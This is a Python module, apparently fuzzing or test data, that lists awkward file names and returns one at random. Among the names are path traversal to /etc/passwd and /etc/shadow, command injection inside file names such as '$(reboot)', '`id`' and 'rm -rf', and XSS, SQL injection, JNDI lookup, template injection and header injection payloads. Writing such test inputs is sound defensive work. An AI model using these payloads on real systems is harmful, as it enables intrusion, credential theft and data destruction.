"""Names that people, systems and attackers give to files, classes and fields."""

import random
from typing import Final

NAMES: Final = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/etc/shadow",
    "C:\\CON",
    "CON",
    "aux.jpg",
    "NUL.png",
    "-rf",
    "--help",
    "a\0b.png",
    "a\nb.png",
    "a\r\nSet-Cookie: x=1.png",
    "\x1b[2J\x1b]0;owned\x07.png",
    "<img src=x onerror=alert(1)>.png",
    '"><script>alert(1)</script>',
    "'; DROP TABLE users; --.png",
    "${jndi:ldap://x/a}.png",
    "{{7*7}}.png",
    "%2e%2e%2f%00.png",
    "$(reboot).png",
    "`id`.png",
    '=HYPERLINK("http://x")',
    "😀👩‍👩‍👧‍👦.png",
    "\u202egnp.exe",
    "a\u200bb\u2060c.png",
    "\ufeffbom.png",
    "a\u0301 ä ａ ﬁ.png",
    "名前.jpg",
    "مرحبا.png",
    " ",
    ".",
    "..",
    ".hidden",
    "a" * 255 + ".png",
    "é" * 512,
    "😀" * 300,
    "a/" * 200 + "b.png",
    "\ud800.png",
    "caf\udce9.png",
    "\u2028\u2029",
    "\u3164",
    "zalgo" + "\u0335" * 200,
    "README.md;rm -rf",
    "picture.jpg.exe",
    "nul\ufffe\uffff.png",
    "",
)


def name(rng: random.Random) -> str:
    return rng.choice(NAMES)
